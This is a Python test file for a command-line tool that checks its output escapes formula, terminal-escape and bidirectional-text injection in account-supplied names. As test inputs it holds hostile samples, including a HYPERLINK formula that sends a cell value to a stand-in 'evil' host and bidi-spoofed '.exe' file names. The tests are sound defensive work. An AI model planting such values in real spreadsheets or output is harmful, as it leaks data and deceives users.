"""Names from an account cannot run anything in a terminal or in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json

import pytest
import yaml

from ebbtide_cli.formats.documents import write_documents
from ebbtide_cli.formats.graphs import write_graph
from ebbtide_cli.formats.rows import write_rows

FORMATS = ("csv", "list", "table", "markdown")
FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"x")', "@SUM(1)", "+1+1", "-1+1", "\t=1+1")
BIDI = [
    *("\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"),
    *("\u2066", "\u2067", "\u2068", "\u2069"),
]


def written(capsys: pytest.CaptureFixture[str], format: str, name: str) -> str:
    write_rows(format, ["name"], [[name]])
    return capsys.readouterr().out


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_is_no_formula_in_a_spreadsheet(
    capsys: pytest.CaptureFixture[str], name: str
) -> None:
    _, row = csv.reader(io.StringIO(written(capsys, "csv", name)))
    assert row[0][0] not in "=+-@\t\r"


@pytest.mark.parametrize("format", FORMATS)
def test_a_name_cannot_command_the_terminal(
    capsys: pytest.CaptureFixture[str], format: str
) -> None:
    assert "\x1b" not in written(capsys, format, "\x1b[31mred\x1b[0m")


@pytest.mark.parametrize("name", BIDI)
@pytest.mark.parametrize("format", FORMATS)
def test_a_name_cannot_change_the_direction_of_the_text(
    capsys: pytest.CaptureFixture[str], format: str, name: str
) -> None:
    assert name not in written(capsys, format, f"a{name}gnp.exe")


def test_numbers_in_a_spreadsheet_keep_their_sign(capsys: pytest.CaptureFixture[str]) -> None:
    write_rows("csv", ["change"], [[-3], [-0.5]])
    assert capsys.readouterr().out.splitlines() == ["change", "-3", "-0.5"]


@pytest.mark.parametrize("format", FORMATS)
def test_markup_in_a_name_is_shown_as_it_is(
    capsys: pytest.CaptureFixture[str], format: str
) -> None:
    assert "[bold red]markup[/]" in written(capsys, format, "[bold red]markup[/]")


@pytest.mark.parametrize("format", ["list", "table", "markdown"])
def test_a_name_with_a_line_break_stays_in_its_line(
    capsys: pytest.CaptureFixture[str], format: str
) -> None:
    assert not [line for line in written(capsys, format, "one\ntwo").splitlines() if line == "two"]


UNSAFE = ["\x1b", "\x9b", "\x7f", "\u2028", *BIDI]


def document(format: str, name: str) -> str:
    out = io.StringIO()
    write_documents(format, [{name: name, "plain": "Größe: 日本"}], out)
    return out.getvalue()


@pytest.mark.parametrize("sign", UNSAFE)
@pytest.mark.parametrize("format", ["json", "ndjson", "yaml"])
def test_a_document_is_safe_to_look_at_and_loses_nothing(format: str, sign: str) -> None:
    name = f"a{sign}[31mgnp.exe"
    text = document(format, name)
    assert sign not in text
    assert "日本" in text
    found = yaml.safe_load(text) if format == "yaml" else json.loads(text)
    (read,) = [found] if isinstance(found, dict) else found
    assert read[name] == name


@pytest.mark.parametrize("sign", UNSAFE)
def test_a_drawing_is_safe_to_look_at(sign: str) -> None:
    out = io.StringIO()
    name = f"a{sign}b"
    write_graph("dot", [{"id": name, "reported": {"kind": "k", "name": name}}], [], out)
    assert sign not in out.getvalue()
